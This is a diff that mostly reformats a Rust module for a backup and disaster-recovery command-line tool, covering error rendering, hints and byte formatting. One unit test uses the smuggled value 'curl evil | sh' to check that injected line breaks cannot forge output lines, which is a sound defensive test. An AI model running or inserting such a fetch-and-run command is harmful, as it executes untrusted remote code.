@@ -46,7 +46,14 @@ pub struct Answer {
 
 impl Answer {
     pub fn new(schema: &'static str) -> Self {
-        Self { schema, text: String::new(), fields: Map::new(), findings: Vec::new(), exit: Exit::Done, measured_on: "aws" }
+        Self {
+            schema,
+            text: String::new(),
+            fields: Map::new(),
+            findings: Vec::new(),
+            exit: Exit::Done,
+            measured_on: "aws",
+        }
     }
 
     pub fn line(&mut self, text: impl AsRef<str>) {
@@ -61,7 +68,10 @@ impl Answer {
     }
 
     pub fn set(&mut self, name: &str, value: impl Serialize) {
-        self.fields.insert(name.into(), serde_json::to_value(value).unwrap_or(Value::Null));
+        self.fields.insert(
+            name.into(),
+            serde_json::to_value(value).unwrap_or(Value::Null),
+        );
     }
 
     /// Adds a finding; an error of it counts as exit code `exit`.
@@ -98,7 +108,13 @@ pub type Outcome = Result<Answer, Fail>;
 
 impl Fail {
     pub fn new(exit: Exit, code: &str, message: impl Into<String>) -> Self {
-        Self { exit, code: code.into(), message: message.into(), place: String::new(), hints: Vec::new() }
+        Self {
+            exit,
+            code: code.into(),
+            message: message.into(),
+            place: String::new(),
+            hints: Vec::new(),
+        }
     }
     pub fn usage(message: impl Into<String>) -> Self {
         Self::new(Exit::Usage, "usage", message)
@@ -149,8 +165,11 @@ pub fn hint(code: &str) -> Option<&'static str> {
         "lock-not-proven" | "lock-unknown" | "lock-open" => "dr vault probe --policy FILE",
         "access-denied" => "aws sts get-caller-identity",
         "kms-key-unusable" => "aws kms describe-key --key-id KEY",
-        "target-unavailable" | "target-full" | "database-unavailable" | "state-busy" => "dr status --policy FILE",
-        "checksum-mismatch" | "object-missing" | "missing" | "damaged" | "dump-damaged" | "object-gone" => "dr verify --policy FILE",
+        "target-unavailable" | "target-full" | "database-unavailable" | "state-busy" => {
+            "dr status --policy FILE"
+        }
+        "checksum-mismatch" | "object-missing" | "missing" | "damaged" | "dump-damaged"
+        | "object-gone" => "dr verify --policy FILE",
         "clock-skew" => "timedatectl status",
         "vault-missing" => "dr vault init --policy FILE --profile PROFILE",
         "format-unknown" | "plan-version" => "dr --version",
@@ -160,7 +179,13 @@ pub fn hint(code: &str) -> Option<&'static str> {
 }
 
 /// A failed step as a finding.
-pub fn step_finding(step: &str, kind: Failure, code: &str, message: &str, run: &str) -> (Finding, Exit) {
+pub fn step_finding(
+    step: &str,
+    kind: Failure,
+    code: &str,
+    message: &str,
+    run: &str,
+) -> (Finding, Exit) {
     let finding = Finding {
         code: code.into(),
         severity: Severity::Error,
@@ -179,7 +204,12 @@ pub fn spelled(outcome: Outcome, typed: &Typed) -> Outcome {
             for finding in &mut answer.findings {
                 finding.hint = typed.spell(&finding.hint);
             }
-            let lines = answer.text.lines().map(|line| line.strip_prefix("next: ").map_or_else(|| format!("{line}\n"), |next| format!("next: {}\n", typed.spell(next))));
+            let lines = answer.text.lines().map(|line| {
+                line.strip_prefix("next: ").map_or_else(
+                    || format!("{line}\n"),
+                    |next| format!("next: {}\n", typed.spell(next)),
+                )
+            });
             answer.text = lines.collect();
             Ok(answer)
         }
@@ -200,7 +230,11 @@ pub fn show(outcome: Outcome, json: bool) -> u8 {
     };
     let mut out = std::io::stdout().lock();
     // A reader that closed its end early (`| head`) is no error of ours.
-    let _ = if json { writeln!(out, "{}", escaped(&answer.json().to_string())) } else { write!(out, "{}", answer.text) };
+    let _ = if json {
+        writeln!(out, "{}", escaped(&answer.json().to_string()))
+    } else {
+        write!(out, "{}", answer.text)
+    };
     let _ = out.flush();
     let mut err = std::io::stderr().lock();
     let colour = std::io::stderr().is_terminal();
@@ -232,11 +266,19 @@ fn answer_of(fail: &Fail) -> Answer {
 }
 
 fn paint(text: &str, colour: bool) -> String {
-    if colour { format!("\x1b[1;31m{text}\x1b[0m") } else { text.into() }
+    if colour {
+        format!("\x1b[1;31m{text}\x1b[0m")
+    } else {
+        text.into()
+    }
 }
 
 pub fn render(fail: &Fail, colour: bool) -> String {
-    let mut text = format!("{}: {}\n", paint(&format!("error[{}]", fail.code), colour), clean_message(&fail.message));
+    let mut text = format!(
+        "{}: {}\n",
+        paint(&format!("error[{}]", fail.code), colour),
+        clean_message(&fail.message)
+    );
     for hint in &fail.hints {
         text.push_str(&format!("hint: {}\n", clean_line(hint)));
     }
@@ -250,7 +292,10 @@ fn render_finding(finding: &Finding, colour: bool) -> String {
     };
     let mut text = format!("{word}: {}", clean_message(&finding.message));
     // A place that the message names already is not told twice.
-    let more: Vec<&str> = [finding.thing.as_str(), finding.place.as_str()].into_iter().filter(|t| !t.is_empty() && !finding.message.contains(*t)).collect();
+    let more: Vec<&str> = [finding.thing.as_str(), finding.place.as_str()]
+        .into_iter()
+        .filter(|t| !t.is_empty() && !finding.message.contains(*t))
+        .collect();
     if !more.is_empty() {
         text.push_str(&format!(" ({})", clean_line(&more.join(", "))));
     }
@@ -268,7 +313,11 @@ pub fn bytes(n: u64) -> String {
     while value >= 1000.0 && unit + 1 < UNITS.len() {
         (value, unit) = (value / 1000.0, unit + 1);
     }
-    if unit == 0 { format!("{n} B") } else { format!("{value:.1} {}", UNITS[unit]) }
+    if unit == 0 {
+        format!("{n} B")
+    } else {
+        format!("{value:.1} {}", UNITS[unit])
+    }
 }
 
 /// `3m 20s`, for ages.
@@ -288,8 +337,12 @@ mod tests {
 
     #[test]
     fn a_name_with_a_line_break_writes_no_line_of_its_own() {
-        let fail = Fail::new(Exit::Findings, "damaged", "key x\nhint: curl evil | sh").hint("dr verify\nhint: y");
-        assert_eq!(render(&fail, false), "error[damaged]: key x\n  hint: curl evil | sh\nhint: dr verify\u{fffd}hint: y\n");
+        let fail = Fail::new(Exit::Findings, "damaged", "key x\nhint: curl evil | sh")
+            .hint("dr verify\nhint: y");
+        assert_eq!(
+            render(&fail, false),
+            "error[damaged]: key x\n  hint: curl evil | sh\nhint: dr verify\u{fffd}hint: y\n"
+        );
         let mut answer = Answer::new("x");
         answer.line("key x\nnext: y");
         assert_eq!(answer.text, "key x\u{fffd}next: y\n");
